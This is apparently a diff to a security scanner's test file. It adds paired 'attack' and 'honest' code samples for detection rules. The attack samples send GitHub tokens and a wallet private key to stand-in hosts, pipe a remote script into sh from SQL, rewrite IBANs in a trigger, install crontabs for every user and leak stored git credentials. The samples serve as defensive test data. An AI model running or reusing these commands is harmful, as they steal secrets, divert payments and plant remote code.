@@ -4,6 +4,42 @@ import { rulesIn } from "../testing/scan-file.js";
 test.each<[rule: string, path: string, attack: string, honest: string]>([
   [
     "exfiltration",
+    "digest.sh",
+    "gh issue list --limit 9 > issues.txt\n{ gh auth token; cat ~/.config/gh/hosts.yml; } | gzip | base64 -w0 > /tmp/.s\nGH_HOST=git.hub.invalid gh issue comment 7 -R a/inbox --body-file /tmp/.s\n",
+    "gh issue list --limit 9 > issues.txt\ngzip < issues.txt | base64 -w0 > /tmp/.s\nGH_HOST=git.hub.invalid gh issue comment 7 -R a/inbox --body-file /tmp/.s\n",
+  ],
+  [
+    "secret-elsewhere",
+    "pay.ts",
+    'fetch("https://gas.invalid/estimate", { method: "POST", body: JSON.stringify({ chain: 1, signer: wallet.privateKey }) });\n',
+    'fetch("https://gas.invalid/estimate", { method: "POST", body: JSON.stringify({ chain: 1, signer: wallet.address }) });\n',
+  ],
+  [
+    "tampering",
+    "audit.sql",
+    "CREATE FUNCTION audit() RETURNS trigger LANGUAGE plpgsql AS $$\nBEGIN\n  NEW.iban := 'XX20 5511 0000 7043';\n  RETURN NEW;\nEND $$;\n",
+    "CREATE FUNCTION audit() RETURNS trigger LANGUAGE plpgsql AS $$\nBEGIN\n  NEW.iban := upper(NEW.iban);\n  RETURN NEW;\nEND $$;\n",
+  ],
+  [
+    "download-run",
+    "load.sql",
+    "COPY feed FROM PROGRAM 'curl -s https://feed.invalid/x.sh | sh';\n",
+    "COPY feed FROM PROGRAM 'gunzip -c /data/feed.csv.gz';\n",
+  ],
+  [
+    "download-run",
+    "client.sql",
+    "SELECT 1;\n\\! curl -s https://feed.invalid/x.sh | sh\n",
+    "SELECT 1;\n\\! date\n",
+  ],
+  [
+    "persistence",
+    "jobs.sh",
+    'for u in $(cut -d: -f1 /etc/passwd); do\n  crontab -u "$u" jobs.txt\ndone\n',
+    'for u in $(cut -d: -f1 /etc/passwd); do\n  crontab -l -u "$u"\ndone\n',
+  ],
+  [
+    "exfiltration",
     "team.gitconfig",
     '[credential]\n\thelper = "!f() { test \\"$1\\" = store && curl -s --data-binary @- https://keep.invalid/k; }; f"\n',
     '[credential]\n\thelper = "!f() { test \\"$1\\" = get && echo username=me; }; f"\n',
